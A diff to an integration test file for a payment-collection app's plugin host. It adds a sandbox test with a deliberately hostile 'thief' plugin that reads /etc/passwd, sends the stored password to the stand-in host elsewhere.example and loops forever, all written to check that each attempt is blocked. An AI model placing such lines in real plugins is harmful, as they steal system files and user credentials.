@@ -12,6 +12,7 @@ import { addAccount, addCode } from '../../src/flow/accounts/index.ts';
 import { checkRuleSet } from '../../src/flow/forwarded-texts/index.ts';
 import { createRegistry, PluginShelf, shippedDescriptors } from '../../src/plugin-host/index.ts';
 import { HOUR } from '../../src/shared/clock.ts';
+import { ledgerPage, startLedgerPage } from '../simulators/descriptors/ledger-page.ts';
 import { tarball, zip } from '../support/archives.ts';
 import { captureLog } from '../support/captured-log.ts';
 import { databases } from '../support/database.ts';
@@ -127,7 +128,7 @@ describe.each(databases.filter(({ available }) => available))(
         '系统自带',
         '免费',
         '账号密码',
-        '手机或电脑通知',
+        '手机通知',
         '启用中',
         '1 个',
         's.shouqianba.com',
@@ -331,6 +332,79 @@ describe.each(databases.filter(({ available }) => available))(
       expect(app.services.plugins.find('sqbpay')).toBeDefined();
       await app.keeper.submit(page, {}, 'form[action$="/remove"]');
       expect(installed()).toBeUndefined();
+    });
+
+    test('one that reaches for a file, for another host or for ever is stopped, and its owner sees why', async () => {
+      const { db } = app.place;
+      const reaching = (version: string, body: string) =>
+        asZip(`import * as api from '#plugin-api';
+          export default api.definePlatform({
+            id: 'thief', apiVersion: 2, version: '${version}', listening: 'polled', name: { zh: '客', en: 'Guest' },
+            hosts: ['thief.example'], payTypes: ['wxpay'], facts: [], settings: [api.usualFields.password],
+            terminal: { namedByReceipts: true, label: { zh: '端', en: 'T' }, help: { zh: '无', en: 'None' } },
+            login: { async password(c) { ${body} } },
+            async fetchReceipts() { return { receipts: [], dropped: [] }; },
+          });`);
+      for (const [version, body, words] of [
+        ['1.0.0', "return { done: (await import('node:fs')).readFileSync('/etc/passwd') }", '插件出错'],
+        ['1.0.1', "await c.http.get('https://elsewhere.example/?' + c.settings.password)", '没有声明这个地址'],
+        ['1.0.2', 'for (;;) {}', '计算太久'],
+      ] as const) {
+        await agree(await review(reaching(version, body)));
+        const form = await app.keeper.get('/console/accounts/new?platform=thief');
+        const typed = { login: version, mode: 'continuous', interval: '3', setting_password: 'canary-pass' };
+        const added = await app.keeper.submit(form, typed);
+        const page = await app.keeper.get((added.location ?? '').replace(/\?.*/, ''));
+        expect(readable(page), version).toContain(words);
+        expect(page.text).not.toContain('canary-pass');
+      }
+      await db('accounts').where({ platform: 'thief' }).update({ enabled: false });
+      const token = (await app.keeper.get('/console/platforms/thief')).page
+        .querySelector('input[name="_csrf"]')
+        ?.getAttribute('value');
+      await app.keeper.post('/console/platforms/thief/remove', { _csrf: token ?? '' });
+      expect(app.services.plugins.find('thief')).toBeUndefined();
+    });
+
+    test('a descriptor from a file: no trust is asked for, its account settles an order; off and on at once', async () => {
+      const { db } = app.place;
+      const simulator = await startLedgerPage(() => app.clock.now());
+      const written = ledgerPage.origins.reduce(
+        (text, origin) => text.replaceAll(origin, simulator.url),
+        JSON.stringify(ledgerPage),
+      );
+      const page = await review(Buffer.from(written));
+      expect(readable(page)).toContain('没有代码');
+      expect(page.page.querySelector('input[name="hosts"]')).toBeNull();
+      expect((await app.keeper.submit(page, {}, '#review')).location).toContain('done=pluginInstalled');
+
+      await db('accounts').update({ enabled: false });
+      const { username = '', password = '', shop = '' } = simulator.settings;
+      const form = await app.keeper.get('/console/accounts/new?platform=ledger-page');
+      const added = await app.keeper.submit(form, {
+        ...{ login: username, mode: 'continuous', interval: '3' },
+        ...{ setting_password: password, setting_shop: shop },
+      });
+      const accountId = Number(/accounts\/(\d+)/.exec(added.location ?? '')?.[1]);
+      await addCode(app.services.accountDeps, accountId, {
+        ...{ label: '', payTypes: ['wxpay'], style: 'link', terminal: 'T1' },
+        content: 'https://qr.example/t1',
+      });
+      const order = await app.order({ type: 'wxpay', money: '31.00' });
+      expect(order.placement?.accountId).toBe(accountId);
+      simulator.pay({ amountFen: order.placement?.payableFen ?? 0, payType: 'wxpay', terminal: 'T1' });
+      await app.tick(4_000);
+      expect((await app.find(order.tradeNo)).state).toBe('paid');
+
+      const own = '/console/platforms/ledger-page';
+      const turn = async () =>
+        app.keeper.submit(await app.keeper.get(own), {}, `form[action="${own}/enabled"]`);
+      await turn();
+      await expect(app.order({ type: 'wxpay', money: '32.00' })).rejects.toThrow('没有可用的收款码');
+      await turn();
+      expect((await app.order({ type: 'wxpay', money: '33.00' })).placement?.accountId).toBe(accountId);
+      await db('accounts').where({ id: accountId }).update({ enabled: false });
+      await simulator.close();
     });
 
     test('the index: its packages are installed and updated; what is not signed, changed or old is refused', async () => {
